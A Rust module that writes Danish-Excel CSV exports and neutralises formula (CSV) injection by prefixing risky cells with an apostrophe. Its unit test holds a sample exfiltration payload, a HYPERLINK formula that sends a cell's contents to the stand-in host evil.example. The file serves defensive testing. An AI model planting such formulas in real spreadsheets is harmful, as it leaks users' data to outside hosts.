//! CSV files for Excel with Danish settings, the one writer of every figures download: UTF-8
//! with a byte-order mark (without it Excel reads the Danish letters as Latin-1), semicolons
//! between fields (what Excel expects with Danish regional settings, where the comma is the
//! decimal mark), CRLF line ends, and Danish column names.
//!
//! Names come from people (an activity's, a journalist's): a cell that starts like a formula
//! (`=`, `+`, `-`, `@`, a tab or a carriage return) is written with an apostrophe in front, so
//! a spreadsheet shows it as text and never runs it ([`inert`], OWASP's advice on CSV
//! injection). Every cell passes through it.

use std::borrow::Cow;

use crate::i18n::Lang;

/// A CSV file being written, its header row first.
pub struct ExcelCsv {
    writer: csv::Writer<Vec<u8>>,
}

impl ExcelCsv {
    /// A file whose header row holds the texts of `column_keys` (Fluent keys) in `lang`.
    pub fn new(lang: Lang, column_keys: &[&str]) -> Result<Self, csv::Error> {
        let mut file = ExcelCsv {
            writer: csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(csv::Terminator::CRLF)
                .from_writer(b"\xEF\xBB\xBF".to_vec()),
        };
        file.row(column_keys.iter().map(|key| lang.text(key)))?;
        Ok(file)
    }

    /// Writes one row, every cell [`inert`].
    pub fn row<S: AsRef<str>>(
        &mut self,
        cells: impl IntoIterator<Item = S>,
    ) -> Result<(), csv::Error> {
        self.writer.write_record(
            cells
                .into_iter()
                .map(|cell| inert(cell.as_ref()).into_owned()),
        )
    }

    /// The file's bytes, byte-order mark first.
    pub fn finish(mut self) -> Result<Vec<u8>, csv::Error> {
        self.writer.flush()?;
        self.writer
            .into_inner()
            .map_err(|err| csv::Error::from(err.into_error()))
    }
}

/// A cell as a spreadsheet must show it: as text, also when it starts like a formula.
pub fn inert(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_starts_like_a_formula_is_text() {
        let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2;\"Åbn\")";
        assert_eq!(inert(evil), format!("'{evil}"));
        for start in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(inert(start).starts_with('\''), "{start:?}");
        }
        assert_eq!(inert("Fællesspisning"), "Fællesspisning");
        assert_eq!(inert("12,5"), "12,5");
    }

    #[test]
    fn the_file_is_for_danish_excel() {
        let mut file = ExcelCsv::new(Lang::default(), &["visits-visitors"]).unwrap();
        file.row(["=1+1"]).unwrap();
        file.row(["12,5"]).unwrap();
        let bytes = file.finish().unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a byte-order mark");
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(text, "Besøgende\r\n'=1+1\r\n12,5\r\n");
    }
}
